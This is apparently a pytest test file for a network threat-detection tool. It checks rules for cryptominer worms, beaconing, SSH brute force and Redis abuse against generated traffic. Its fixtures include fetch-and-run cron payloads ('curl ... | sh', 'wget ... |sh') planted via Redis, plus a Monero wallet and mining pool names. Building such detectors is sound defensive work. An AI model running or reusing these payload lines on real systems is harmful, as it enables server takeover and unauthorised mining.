"""The network rules (``rules/*/net_*.yml``) and the beaconing detector over generated traffic.

Each rule's own ``fires``/``quiet`` examples run in test_rules.py. Here the rules run
together through ``detect`` (stages 1-3) on larger row sets built in code: an outbreak
that every rule must see from its own angle, a busy clean network that must stay below
medium, hostile values, and enough flows to show the SQL scales.
"""

from __future__ import annotations

import datetime as dt
import json
import random
import re
import time
from collections.abc import Sequence
from typing import Any

import pytest

from deminer.case import Case
from deminer.detect import iocs
from deminer.detect.engine import detect
from deminer.detect.finding import Finding
from deminer.detect.python import DETECTORS, beaconing
from deminer.detect.rules import Rule, load_rules

NET = [r for r in load_rules() if r.id.split(".", 1)[1].startswith("net_")]
BEACON_RULE = next(r for r in NET if r.id == "command_and_control.net_beaconing")
T0 = dt.datetime(2024, 3, 1, 9, 0, 0)
WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
Rows = dict[str, list[dict[str, Any]]]


def at(seconds: float) -> dt.datetime:
    return T0 + dt.timedelta(seconds=seconds)


def flow(t: float, src: str, dst: str, port: int, **kw: Any) -> dict[str, Any]:
    data = kw.pop("data", None)
    row = {"ts": at(t), "src_ip": src, "dst_ip": dst, "dst_port": port, "src_port": 40000 + int(t) % 20000,
           "proto": "tcp", "source": "/case/capture", "source_line": int(t * 10), **kw}
    if data is not None:
        row["data"] = json.dumps(data)
    return row


def run(rows: Rows, rules: Sequence[Rule] | None = None) -> tuple[list[Finding], list[dict[str, Any]]]:
    with Case(None) as case:
        iocs.load_shipped(case)
        for table, batch in rows.items():
            case.add(table, batch)
        found = detect(case, NET if rules is None else rules)
        return found, case.query("SELECT source, message FROM errors ORDER BY source")


def outbreak() -> Rows:
    """Seed cases 3, 7 and 8 in one network: a worm host, its victim, a bastion, a server."""
    pc18, pc22, web1, bastion, pool = "10.1.1.18", "10.1.1.22", "10.1.1.5", "10.1.1.2", "198.51.100.7"
    flows = [flow(-600, pc18, "198.51.100.9", 80, app="http",
                  data={"method": "GET", "uri": "/wm.ps1", "user_agent": "Mozilla/5.0 WindowsPowerShell/5.1",
                        "status": 200, "body_magic": "2321"})]
    for i in range(100):                              # EternalBlue fan-out over a /24
        state = "SF" if i % 10 == 0 else "S0"
        flows.append(flow(i * 3, pc18, f"10.1.1.{30 + i}", 445, state=state))
    flows.append(flow(301, pc18, pc22, 445, app="smb", state="SF",
                      data={"dialect": "smb1", "trans2": ["SESSION_SETUP"], "multiplex_ids": [65, 81],
                            "commands": ["NEGOTIATE", "TRANSACTION2"]}))
    flows.append(flow(320, pc18, web1, 6379, app="redis", state="SF", data={"commands": [
        "FLUSHALL", "SET x \"\\n*/5 * * * * curl -fsSL http://198.51.100.9/r.sh | sh\\n\"",
        "CONFIG SET dir /var/spool/cron", "CONFIG SET dbfilename root", "SAVE"]}))
    for who, t, login in ((pc18, 3600, WALLET), (pc22, 7200, WALLET + ".pc22")):
        flows.append(flow(t, who, pool, 3333, app="stratum", duration=3000, state="SF",
                          data={"methods": ["login", "submit"], "login": login, "pass": "x",
                                "agent": "XMRig/6.20.0", "algo": ["rx/0"], "submits": 30}))
    flows.append(flow(7300, pc22, "198.51.100.70", 443, app="tls", duration=40,
                      data={"sni": "gulf.moneroocean.stream"}))
    rng = random.Random(7)
    for beat in range(24):                             # pc22's implant: every 300 s, ±10 %
        flows.append(flow(8000 + beat * 300 + rng.uniform(-30, 30), pc22, "203.0.113.50", 8443, duration=1))
    flows.append(flow(100, bastion, "203.0.113.77", 7000, duration=80000, state="S1"))
    for i in range(15):                                # SSH guessing against web1, then a shell
        flows.append(flow(200 + i * 4, "203.0.113.7", web1, 22, app="ssh", duration=3,
                          data={"client_banner": "SSH-2.0-Go"}))
    flows.append(flow(300, "203.0.113.7", web1, 22, app="ssh", duration=1800,
                      data={"client_banner": "SSH-2.0-Go"}))
    flows.append(flow(50, "198.51.100.30", web1, 443, state="SF", duration=1))
    flows.append(flow(400, web1, "203.0.113.31", 45700, state="S1", duration=4000))
    dns = [{"ts": at(-700), "client": pc18, "qname": "i.haqo.net", "qtype": "A", "answers": ["203.0.113.9"]},
           {"ts": at(3590), "client": pc18, "qname": "pool.supportxmr.com", "qtype": "A", "answers": [pool]},
           {"ts": at(3595), "client": pc18, "qname": "donate.v2.xmrig.com", "qtype": "A",
            "answers": ["198.51.100.50"]}]
    flows.append(flow(3600, pc18, "198.51.100.50", 3333, app="stratum", data={"methods": ["login"]}))
    events = [{"ts": at(7201), "event": "ids_alert", "src_ip": pc22, "dst_ip": pool, "dst_port": 3333,
               "data": json.dumps({"signature": "ET MINER Stratum Protocol Mining.Subscribe Request",
                                   "signature_id": 2024792})}]
    processes = [{"host": "bastion", "pid": 3131, "name": "frpc", "cmdline": "./frpc -c ./frpc.ini",
                  "started": at(90)}]
    hosts = [{"host": h, "ips": [ip]} for h, ip in
             (("pc18", pc18), ("pc22", pc22), ("web1", web1), ("bastion", bastion))]
    return {"hosts": hosts, "flows": flows, "dns": dns, "events": events, "processes": processes}


def test_every_rule_sees_the_outbreak_from_its_angle() -> None:
    found, errors = run(outbreak())
    assert errors == []
    got = {(f.rule.split(".")[1], f.host, f.entity): f for f in found}
    expected = {
        ("net_payload_download", "pc18", "http://198.51.100.9/wm.ps1"): "high",
        ("net_worm_fanout", "pc18", "10.1.1.18"): "critical",
        ("net_eternalblue_traits", "pc22", "10.1.1.18"): "critical",
        ("net_redis_abuse", "web1", "10.1.1.18"): "critical",
        ("net_stratum_session", "pc18", "198.51.100.7:3333"): "critical",
        ("net_stratum_session", "pc22", "198.51.100.7:3333"): "critical",
        ("net_wallet_cluster", "pc18", WALLET): "high",
        ("net_pool_tls", "pc22", "gulf.moneroocean.stream:443"): "high",
        ("net_pool_dns", "pc18", "i.haqo.net"): "high",
        ("net_pool_dns", "pc18", "pool.supportxmr.com"): "high",
        ("net_xmrig_donation", "pc18", "donate.v2.xmrig.com"): "high",
        ("net_beaconing", "pc22", "203.0.113.50:8443"): "medium",
        ("net_frp_proxy", "bastion", "203.0.113.77:7000"): "high",
        ("net_ssh_brute_force", "web1", "203.0.113.7"): "high",
        ("net_server_egress", "web1", "10.1.1.5"): "medium",
        ("net_ids_miner_alert", "pc22", "ET MINER Stratum Protocol Mining.Subscribe Request"): "high",
    }
    assert {k: got[k].severity for k in expected if k in got} == expected
    # the donation pool is XMRig's, not "a pool": no second finding for it elsewhere
    assert not [k for k in got if "donate" in k[2] and k[0] != "net_xmrig_donation"]
    fan = got[("net_worm_fanout", "pc18", "10.1.1.18")].evidence
    # the 100 scanned, plus pc22 (SMB exploit) and web1 (Redis) that answered
    assert (fan["victims"], fan["failed"], fan["established"], fan["ports"]) == (102, 90, 12, "445,6379")
    assert fan["victim_list"].split()[:3] == ["10.1.1.30", "10.1.1.31", "10.1.1.32"]
    cluster = got[("net_wallet_cluster", "pc18", WALLET)].evidence
    assert cluster["hosts"] == 2
    assert cluster["host_list"].startswith("pc18 (") and "pc22" in cluster["host_list"]
    stratum = got[("net_stratum_session", "pc22", "198.51.100.7:3333")].evidence
    assert (stratum["wallet"], stratum["worker"], stratum["destination.domain"]) == \
        (WALLET, "pc22", "pool.supportxmr.com")
    beacon = got[("net_beaconing", "pc22", "203.0.113.50:8443")].evidence
    assert 280 < beacon["period_seconds"] < 320 and beacon["cv"] < 0.2
    frp = got[("net_frp_proxy", "bastion", "203.0.113.77:7000")].evidence
    assert "frpc -c ./frpc.ini" in frp["artifacts"]
    for f in found:
        assert f.ts is not None and f.attack and f.summary.endswith(".")


def test_output_does_not_depend_on_row_order() -> None:
    rows = outbreak()
    first, _ = run(rows)
    for batch in rows.values():
        random.Random(1).shuffle(batch)
    again, _ = run(rows)
    assert [json.dumps(f.to_json(), sort_keys=True) for f in first] == \
        [json.dumps(f.to_json(), sort_keys=True) for f in again]


def clean_network() -> Rows:
    """A busy healthy network full of near misses."""
    rng = random.Random(11)
    flows: list[dict[str, Any]] = []
    for c in range(40):                                # people browsing
        t = 0.0
        for _ in range(30):
            t += rng.expovariate(1 / 40)
            flows.append(flow(t, f"10.0.0.{100 + c}", f"192.0.2.{rng.randrange(1, 250)}", 443, app="tls",
                              duration=rng.uniform(0.1, 20), state="SF",
                              data={"sni": f"www.site{rng.randrange(500)}.example", "ja3_hash": "x"}))
    for i in range(19):                                # the backup server's nightly round
        flows.append(flow(i * 20, "10.0.0.9", f"10.0.5.{i}", 22, app="ssh", duration=900, state="SF"))
    for beat in range(200):                            # NTP, and monitoring inside the network
        flows.append(flow(beat * 64, "10.0.0.100", "192.0.2.123", 123, proto="udp"))
        flows.append(flow(beat * 60, "10.0.0.200", "10.0.0.5", 9100, state="SF", duration=0.1))
    for i in range(12):                                # an admin's long SSH sessions
        flows.append(flow(i * 3600, "10.0.0.2", "10.0.0.5", 22, app="ssh", duration=3000))
    for i in range(30):                                # the web server and what it fetches
        flows.append(flow(i * 5, f"198.51.100.{i + 1}", "10.0.0.5", 443, state="SF", duration=2))
        flows.append(flow(i * 5, "10.0.0.5", "192.0.2.200", 443, state="SF", duration=1))
    flows.append(flow(10, "10.0.0.5", "192.0.2.210", 80, app="http", data={
        "method": "GET", "uri": "/debian/pool/main/c/curl.deb", "host": "deb.debian.org",
        "user_agent": "Debian APT-HTTP/1.3", "body_magic": "213c617263683e"}))
    dns = [{"ts": at(i), "client": f"10.0.0.{100 + i % 40}", "qname": name, "qtype": "A",
            "answers": ["192.0.2.1"]}
           for i, name in enumerate(["deb.debian.org", "www.example.com", "xmrig.com.example.net",
                                     "pool.ntp.org", "haqo.net.example.org"] * 8)]
    return {"hosts": [{"host": "web", "ips": ["10.0.0.5"]}], "flows": flows, "dns": dns}


def test_clean_network_stays_below_medium() -> None:
    found, errors = run(clean_network())
    assert errors == []
    assert [(f.rule, f.summary) for f in found if f.severity not in ("info", "low")] == []


def test_fan_out_needs_twenty_new_hosts_in_ten_minutes_and_caps_its_lists() -> None:
    rule = [r for r in NET if r.id == "lateral_movement.net_worm_fanout"]
    slow = [flow(i * 40, "10.0.0.7", f"10.0.9.{i}", 3389, state="S0") for i in range(60)]  # 15 per 10 min
    fast = [flow(i, "10.0.0.8", f"10.2.{i // 250}.{i % 250}", [445, 6379, 22][i % 3], state="REJ")
            for i in range(600)]
    found, _ = run({"flows": slow + fast}, rule)
    assert [(f.entity, f.severity) for f in found] == [("10.0.0.8", "high")]
    ev = found[0].evidence
    assert (ev["victims"], ev["failed"], ev["ports"], ev["peak_per_10min"]) == (600, 600, "22,445,6379", 600)
    assert len(ev["victim_list"].split()) == 50 and "answered_list" not in ev


def test_redis_payload_set_before_flushall_is_not_flushall_then_set() -> None:
    rule = [r for r in NET if r.id == "initial_access.net_redis_abuse"]
    cmds = ["SET k \n\n*/1 * * * * wget -q -O- http://198.51.100.9/a|sh\n\n", "FLUSHALL", "INFO"]
    found, _ = run({"flows": [flow(0, "10.0.0.3", "10.0.0.4", 6379, app="redis", data={"commands": cmds})]},
                   rule)
    assert found == []
    found, _ = run({"flows": [flow(0, "10.0.0.3", "10.0.0.4", 6379, app="redis",
                                   data={"commands": list(reversed(cmds))})]}, rule)
    assert [(f.severity, f.evidence["flushall_before_payload"]) for f in found] == [("critical", True)]
    assert "wget -q -O- http://198.51.100.9/a|sh" in found[0].evidence["payload"]


def test_zeek_rows_of_one_connection_count_once() -> None:
    """conn.log and ssh.log rows share a uid: one session, duration from one, auth from the other."""
    wanted = ("credential_access.net_ssh_brute_force", "lateral_movement.net_worm_fanout")
    rules = [r for r in NET if r.id in wanted]
    flows = []
    for i in range(12):
        uid = f"C{i:04d}"
        ok = i == 11
        flows.append(flow(i * 5, "203.0.113.7", "10.0.0.5", 22, app="ssh", state="SF",
                          duration=900 if ok else 4, data={"uid": uid, "orig_bytes": 2000}))
        flows.append(flow(i * 5, "203.0.113.7", "10.0.0.5", 22, app="ssh", data={
            "uid": uid, "client_banner": "SSH-2.0-Go", "auth_attempts": 1, "auth_success": ok}))
    for i in range(25):                                # a scan logged as conn + ssh rows too
        uid = f"S{i:04d}"
        flows.append(flow(i, "10.0.0.9", f"10.0.7.{i}", 22, app="ssh", state="SF", duration=1,
                          data={"uid": uid}))
        flows.append(flow(i, "10.0.0.9", f"10.0.7.{i}", 22, app="ssh", data={"uid": uid, "auth_attempts": 0}))
    found, errors = run({"hosts": [{"host": "web1", "ips": ["10.0.0.5"]}], "flows": flows}, rules)
    assert errors == []
    brute = [f for f in found if f.rule.endswith("net_ssh_brute_force")]
    assert [(f.host, f.severity, f.evidence["sessions"], f.evidence["guesses"]) for f in brute] == \
        [("web1", "critical", 11, 11)]
    fan = [f.evidence for f in found if f.rule.endswith("net_worm_fanout")]
    assert [(e["victims"], e["connections"], e["established"]) for e in fan] == [(25, 25, 25)]


@pytest.mark.parametrize(("gaps", "period"), [
    ([60.0] * 20, 60.0),
    ([300 + d for d in (-30, 12, 25, -8, 29, -17, 3, -22, 15, 0, -29, 9)], 300.0),     # ±10 % jitter
    ([120.0] * 5 + [240.0] + [120.0] * 6 + [360.0] + [120.0] * 4, 120.0),                 # 3 missed beats
    ([600.0] * 12 + [3.0], 600.0),                                                        # one retry
])
def test_beacon_timers_are_found(gaps: list[float], period: float) -> None:
    beacon = beaconing.assess(gaps)
    assert beacon is not None and abs(beacon.period - period) < 0.05 * period and beacon.cv < 0.2


def poisson_gaps(n: int, mean: float, seed: int) -> list[float]:
    rng = random.Random(seed)
    return [rng.expovariate(1 / mean) for _ in range(n)]


@pytest.mark.parametrize("gaps", [
    poisson_gaps(60, 90, 3),                                      # a person: Poisson arrivals
    poisson_gaps(500, 300, 4),
    [60.0] * 6,                                                   # too few connections
    [5.0] * 50,                                                   # a keep-alive, not a beacon
    [60.0, 180.0] * 10,                                           # two timers interleaved badly
    [60.0] * 8 + [17.0, 23.0, 41.0, 95.0],                        # too many stray gaps
])
def test_irregular_or_too_short_series_are_not_beacons(gaps: list[float]) -> None:
    assert beaconing.assess(gaps) is None


def test_beaconing_detector_skips_inside_and_ntp_and_counts_peers() -> None:
    assert DETECTORS[BEACON_RULE.detector or ""] is beaconing.detect
    flows = []
    for beat in range(30):
        for src in ("10.0.0.21", "10.0.0.22", "10.0.0.23"):       # three infected hosts, one C2
            flows.append(flow(beat * 120 + int(src[-1]), src, "203.0.113.60", 443))
        flows.append(flow(beat * 120, "10.0.0.21", "10.0.0.5", 443))          # inside: skipped
        flows.append(flow(beat * 64, "10.0.0.21", "192.0.2.123", 123, proto="udp"))
        flows.append(flow(beat * 120, "10.0.0.21", "203.0.113.61", 443))
        flows.append(flow(beat * 120 + 0.4, "10.0.0.21", "203.0.113.61", 443))  # same second: one
    with Case(None) as case:
        case.add("hosts", [{"host": "ws21", "ips": ["10.0.0.21"]}])
        case.add("flows", flows)
        found = beaconing.detect(case, BEACON_RULE)
    got = {(f.host, f.entity): f.evidence for f in found}
    assert set(got) == {("ws21", "203.0.113.60:443"), ("10.0.0.22", "203.0.113.60:443"),
                        ("10.0.0.23", "203.0.113.60:443"), ("ws21", "203.0.113.61:443")}
    assert got[("ws21", "203.0.113.60:443")]["other_hosts_same_beacon"] == 2
    assert got[("ws21", "203.0.113.61:443")]["period_seconds"] == 120.0


_CONTROL = re.compile(r"[\x00-\x08\x0a-\x1f\x7f]")


def test_hostile_values_neither_break_rules_nor_reach_summaries() -> None:
    junk = "\x1b[2J\x00\x07" + "A" * 200000
    rows = outbreak()
    rows["flows"] += [
        flow(10, "10.1.1.18", "198.51.100.7", 3333, app="stratum",
             data={"methods": ["login"], "login": junk, "agent": junk, "algo": {"nested": [junk]}}),
        flow(11, "10.1.1.18", "198.51.100.9", 80, app="http",
             data={"uri": "/" + junk + ".sh", "host": "198.51.100.9", "user_agent": junk}),
        flow(12, "10.1.1.18", "10.1.1.5", 6379, app="redis", data={"commands": [junk, 5, None, {"x": 1}]}),
        {"ts": at(13), "src_ip": "10.1.1.18", "dst_ip": "10.1.1.5", "dst_port": 445, "app": "smb",
         "data": "\udcff\udcfe{\"trans2\": [binary"},                      # undecodable bytes, truncated
        {"ts": at(14), "src_ip": "10.1.1.18", "dst_ip": "10.1.1.5", "dst_port": 22, "app": "ssh",
         "data": "[1, 2, 3]"},                                             # JSON, but not an object
        {"ts": None, "src_ip": None, "dst_ip": "10.1.1.5", "dst_port": None, "app": "tls", "data": None},
    ]
    rows["dns"].append({"ts": at(15), "client": "10.1.1.18", "qname": junk + ".haqo.net", "qtype": "A",
                        "answers": [junk]})
    found, errors = run(rows)
    assert errors == []
    fired = {f.rule.split(".")[1] for f in found}
    assert {"net_stratum_session", "net_payload_download", "net_pool_dns"} <= fired
    for f in found:
        assert not _CONTROL.search(f.summary), (f.rule, f.summary[:200])
        assert len(f.summary) < 4000 and len(f.entity) < 5000, f.rule


def test_rules_scale_to_a_large_capture() -> None:
    """200k flows (a busy site's hour) through every network rule in a few seconds."""
    rng = random.Random(5)
    rows = outbreak()
    base = [flow(rng.uniform(0, 3600), f"10.3.{rng.randrange(8)}.{rng.randrange(250)}",
                 f"192.0.2.{rng.randrange(250)}", rng.choice([443, 80, 53, 8080]),
                 duration=rng.uniform(0, 30), state="SF", app=rng.choice(["tls", "http", None]))
            for _ in range(200000)]
    rows["flows"] = base + rows["flows"]
    start = time.perf_counter()
    found, errors = run(rows)
    elapsed = time.perf_counter() - start
    assert errors == []
    fired = {f.rule.split(".")[1] for f in found}
    assert {"net_worm_fanout", "net_stratum_session", "net_beaconing"} <= fired
    assert elapsed < 60, f"network rules took {elapsed:.1f} s on 200k flows"
